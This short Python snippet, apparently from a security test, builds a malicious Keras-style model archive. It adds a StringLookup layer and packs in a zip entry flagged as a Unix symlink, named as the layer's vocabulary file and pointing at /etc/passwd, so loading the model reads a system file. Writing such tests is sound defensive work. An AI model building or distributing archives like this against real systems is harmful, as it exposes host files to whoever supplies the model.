LINK = zipfile.ZipInfo("assets/layers/string_lookup/vocabulary.txt")
LINK.external_attr = 0o120777 << 16
LINK.create_system = 3


def change(config):
    config["config"]["layers"].insert(1, builtin("StringLookup", name="string_lookup", vocabulary_size=3))


def build_model():
    with zipfile.ZipFile(io.BytesIO(reconfigured(change))) as archive:
        found = [(name, archive.read(name)) for name in archive.namelist()]
    return handing_in(packed([*found, (LINK, b"/etc/passwd")]))
